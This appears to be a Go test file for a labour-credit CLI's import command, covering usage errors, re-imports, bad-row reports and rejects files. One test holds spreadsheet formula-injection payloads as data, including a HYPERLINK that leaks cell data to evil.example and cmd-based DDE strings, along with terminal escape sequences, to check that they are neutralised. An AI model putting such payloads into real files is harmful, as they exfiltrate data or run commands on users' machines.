package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"laborcredit/ratings"
	"laborcredit/ratings/ratingstest"
)

// importTestFile writes a file for the import tests and returns its path.
func importTestFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
	return path
}

// importTestEmployers are the employers of the import tests, as CSV.
func importTestEmployers(t *testing.T) (csv string, codes []string) {
	codes = []string{validCode(t, "420102", 701), validCode(t, "420103", 702), validCode(t, "420881", 703)}
	return "uscc,name,region,industry,employees\n" +
		codes[0] + ",江岸建筑有限公司,420102,construction,120\n" +
		codes[1] + ",江汉物流有限公司,420103,,\n" +
		codes[2] + ",钟祥矿业有限公司,420881,mining,40\n", codes
}

func TestImportCommandUsage(t *testing.T) {
	t.Parallel()
	url := ratingstest.SQLiteURL(t)
	csv, _ := importTestEmployers(t)
	file := importTestFile(t, "employers.csv", csv)
	tests := []struct {
		name   string
		args   []string
		code   int
		stderr string
	}{
		{"no arguments", []string{"import"}, exitUsage,
			"laborcredit: import: name the KIND (employers, reviews, cases, complaints, deposits) and the FILE\n"},
		{"unknown kind", []string{"import", "blacklist", file}, exitUsage,
			"laborcredit: import: unknown kind \"blacklist\": want one of employers, reviews, cases, complaints, deposits\n"},
		{"no file", []string{"import", "employers", "--db", url}, exitUsage, "laborcredit: import: name the FILE to import\n"},
		{"two files", []string{"import", "employers", file, file}, exitUsage, "laborcredit: import: unexpected argument \"" + file + "\"\n"},
		{"not CSV or XLSX", []string{"import", "employers", "employers.txt"}, exitUsage,
			"laborcredit: import: \"employers.txt\": want a .csv or .xlsx file\n"},
		{"--rejects alone", []string{"import", "employers", file, "--rejects", "r.csv"}, exitUsage,
			"laborcredit: import: --rejects goes with --skip-invalid\n"},
		{"unknown flag", []string{"import", "employers", file, "--force"}, exitUsage,
			"laborcredit: import: flag provided but not defined: -force\n"},
		{"a file that is not there", []string{"import", "employers", filepath.Join(t.TempDir(), "none.csv"), "--db", url}, exitFailure,
			"no such file or directory\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := runCLI(t, "", tt.args...)
			require.Equal(t, tt.code, got.code, got.stderr)
			require.Contains(t, got.stderr, tt.stderr)
			require.Empty(t, got.stdout)
		})
	}
	got := runCLI(t, "", "import", "--help")
	require.Equal(t, exitOK, got.code)
	require.Contains(t, got.stdout, "Usage: laborcredit import KIND FILE [--db URL] [--skip-invalid] [--rejects FILE]")
	require.Contains(t, got.stdout, "-skip-invalid")
}

// A good file imports (flags before or after the arguments), and again
// changes nothing; every kind follows.
func TestImportCommand(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		url  func(t *testing.T) string
	}{
		{"sqlite", func(t *testing.T) string { return ratingstest.SQLiteURL(t) }},
		{"postgres", func(t *testing.T) string { return ratingstest.PostgresURL(t) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			url := tt.url(t)
			csv, e := importTestEmployers(t)
			file := importTestFile(t, "employers.csv", csv)
			got := runCLI(t, "", "import", "--db", url, "employers", file)
			require.Equal(t, exitOK, got.code, got.stderr)
			require.Equal(t, "employers from "+file+": 3 rows, 3 inserted, 0 updated, 0 unchanged, 0 rejected\n", got.stdout)
			require.Equal(t, "importing employers: 3 of 3 employers (100%)\n", got.stderr)
			got = runCLI(t, "", "import", "employers", file, "--db", url)
			require.Equal(t, exitOK, got.code, got.stderr)
			require.Equal(t, "employers from "+file+": 3 rows, 0 inserted, 0 updated, 3 unchanged, 0 rejected\n", got.stdout)

			cases := importTestFile(t, "立案.csv", "案件编号,统一社会信用代码,案件来源,立案日期,结案日期,处理结果,违法行为\n"+
				"WH-1,"+e[0]+",投诉举报,2026-03-02,2026-04-10,rectified,wage_arrears\n")
			got = runCLI(t, "", "import", "cases", cases, "--db", url)
			require.Equal(t, exitOK, got.code, got.stderr)
			require.Equal(t, "cases from "+cases+": 1 row, 1 inserted, 0 updated, 0 unchanged, 0 rejected\n", got.stdout)

			got = runCLI(t, "", "audit", "verify", "--db", url)
			require.Equal(t, "audit log intact: 3 entries\n", got.stdout)
		})
	}
}

// Bad rows: nothing imported, the rows listed on stderr, exit 1.
func TestImportCommandBadRows(t *testing.T) {
	t.Parallel()
	url := ratingstest.SQLiteURL(t)
	csv, e := importTestEmployers(t)
	file := importTestFile(t, "employers.csv", csv+e[0]+",重复,420102,,\n"+validCode(t, "420102", 704)+",,420102,,\n"+
		validCode(t, "420102", 705)+",\"多行\n名称\",420102,,x\n")
	got := runCLI(t, "", "import", "employers", file, "--db", url)
	require.Equal(t, exitFailure, got.code)
	require.Empty(t, got.stdout)
	require.Equal(t, "importing employers: 6 of 7 employers (85%)\n"+
		"row  column  value               reason\n"+
		"5    uscc    "+e[0]+"  duplicate: row 2 has the same uscc\n"+
		"6    name                        required\n"+
		"7    name    多行\\n名称              character '\\n' at byte 6 is not allowed in a name\n"+
		"laborcredit: nothing imported: 3 of 6 rows invalid; first: row 5, column uscc \""+e[0]+"\": duplicate: row 2 has the same uscc\n",
		got.stderr)
	db, err := ratings.Open(context.Background(), url)
	require.NoError(t, err)
	defer db.Close()
	n, err := db.NewSelect().Table("employers").Count(context.Background())
	require.NoError(t, err)
	require.Zero(t, n)

	// More than 1,000 bad rows: the first 1,000, then how many more.
	var b strings.Builder
	b.WriteString("uscc,name,region\n")
	for i := range 1005 {
		fmt.Fprintf(&b, "%s,,420102\n", validCode(t, "420102", 1000+i))
	}
	got = runCLI(t, "", "import", "employers", importTestFile(t, "many.csv", b.String()), "--db", url)
	require.Equal(t, exitFailure, got.code)
	require.Len(t, regexp.MustCompile(`(?m)^\d+ +name +required$`).FindAllString(got.stderr, -1), 1000)
	require.Contains(t, got.stderr, "\n… and 5 more\nlaborcredit: nothing imported: 1005 of 1005 rows invalid; first: row 2, column name: required\n")
}

// --skip-invalid imports the good rows and writes every rejected row, with
// its cells, row and reason, to the rejects file.
func TestImportCommandSkipInvalid(t *testing.T) {
	t.Parallel()
	url := ratingstest.SQLiteURL(t)
	csv, e := importTestEmployers(t)
	got := runCLI(t, "", "import", "employers", importTestFile(t, "employers.csv", csv), "--db", url)
	require.Equal(t, exitOK, got.code, got.stderr)

	file := importTestFile(t, "deposits.csv", "uscc,period,required,paid\n"+
		e[0]+",2026,true,true\n"+
		e[1]+",2026,true,maybe\n"+
		"\n"+
		validCode(t, "420102", 799)+",2026,true,true\n"+
		e[2]+",2026,true,\"no, not yet\"\n"+
		e[0]+",2026,true,false\n")
	got = runCLI(t, "", "import", "deposits", file, "--skip-invalid", "--db", url)
	require.Equal(t, exitOK, got.code, got.stderr)
	require.Equal(t, "deposits from "+file+": 5 rows, 1 inserted, 0 updated, 0 unchanged, 4 rejected\n"+
		"4 rows rejected: written to "+file+".rejected.csv with their row and reason\n", got.stdout)
	require.Equal(t, "\ufeffrow,reason,uscc,period,required,paid\n"+
		"3,\"paid: not a boolean: want true/false, 1/0, yes/no, y/n or 是/否\","+e[1]+",2026,true,maybe\n"+
		"5,uscc: no employer with this code is registered (import employers first),"+validCode(t, "420102", 799)+",2026,true,true\n"+
		"6,\"paid: not a boolean: want true/false, 1/0, yes/no, y/n or 是/否\","+e[2]+",2026,true,\"no, not yet\"\n"+
		"7,uscc: duplicate: row 2 has the same uscc and period,"+e[0]+",2026,true,false\n",
		readFile(t, file+".rejected.csv"))

	// XLSX, a rejects file of one's choosing: dates come out as dates.
	x := excelize.NewFile()
	defer x.Close()
	style, err := x.NewStyle(&excelize.Style{NumFmt: 14})
	require.NoError(t, err)
	for i, row := range [][]any{{"投诉编号", "统一社会信用代码", "受理日期"}, {"TS-1", e[0], 46054}, {"TS-2", "91420102MA0000000X", 46055}} {
		cell, err := excelize.CoordinatesToCellName(1, i+1)
		require.NoError(t, err)
		require.NoError(t, x.SetSheetRow("Sheet1", cell, &row))
	}
	require.NoError(t, x.SetCellStyle("Sheet1", "C2", "C3", style))
	var buf bytes.Buffer
	require.NoError(t, x.Write(&buf))
	xfile := importTestFile(t, "complaints.xlsx", buf.String())
	rejects := filepath.Join(t.TempDir(), "bad.csv")
	got = runCLI(t, "", "import", "complaints", xfile, "--db", url, "--skip-invalid", "--rejects", rejects)
	require.Equal(t, exitOK, got.code, got.stderr)
	require.Equal(t, "complaints from "+xfile+": 2 rows, 1 inserted, 0 updated, 0 unchanged, 1 rejected\n"+
		"1 row rejected: written to "+rejects+" with their row and reason\n", got.stdout)
	require.Equal(t, "\ufeffrow,reason,投诉编号,统一社会信用代码,受理日期\n"+
		"3,\"统一社会信用代码: no employer has this code, and it is not a valid unified social credit code: check character is 'X', want 'U'\",TS-2,91420102MA0000000X,2026-02-02\n",
		readFile(t, rejects))
}

// The rejects file escapes every cell a spreadsheet would run as a
// formula, and the table on stderr shows control characters as escapes.
func TestImportCommandRejectsAreInert(t *testing.T) {
	t.Parallel()
	url := ratingstest.SQLiteURL(t)
	csv, e := importTestEmployers(t)
	got := runCLI(t, "", "import", "employers", importTestFile(t, "employers.csv", csv), "--db", url)
	require.Equal(t, exitOK, got.code, got.stderr)
	tests := []struct {
		name, cell, want string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab, trimmed", "\t=1+1", "'=1+1"},
		{"carriage return, trimmed", "\r=1+1", "'=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"plain", "TS-9", "TS-9"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			// The cell is the complaint number of a row whose employer is
			// unknown, so the row is rejected and copied.
			file := importTestFile(t, "complaints.csv", "complaint_no,uscc,received\n"+
				"TS-1,"+e[0]+",2026-02-01\n"+
				csvQuote(tt.cell)+","+validCode(t, "420102", 798)+",2026-02-01\n")
			got := runCLI(t, "", "import", "complaints", file, "--skip-invalid", "--db", url)
			rejects := readFile(t, file+".rejected.csv")
			require.Equal(t, exitOK, got.code, got.stderr)
			require.Equal(t, "\ufeffrow,reason,complaint_no,uscc,received\n"+
				"3,uscc: no employer with this code is registered (import employers first),"+tt.want+","+validCode(t, "420102", 798)+",2026-02-01\n",
				rejects)
		})
	}

	// The table of rejected rows on stderr keeps escape sequences out of
	// the terminal.
	file := importTestFile(t, "complaints.csv", "complaint_no,uscc,received\n\"TS-\x1b[2J\u202e1\","+validCode(t, "420102", 797)+",2026-02-01\n")
	got = runCLI(t, "", "import", "complaints", file, "--db", url)
	require.NotEqual(t, exitOK, got.code)
	require.NotContains(t, got.stderr, "\x1b")
	require.NotContains(t, got.stderr, "\u202e")
	require.Contains(t, got.stderr, `TS-\x1b[2J\u202e1`)
}

// csvQuote quotes a CSV field.
func csvQuote(s string) string {
	return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
}
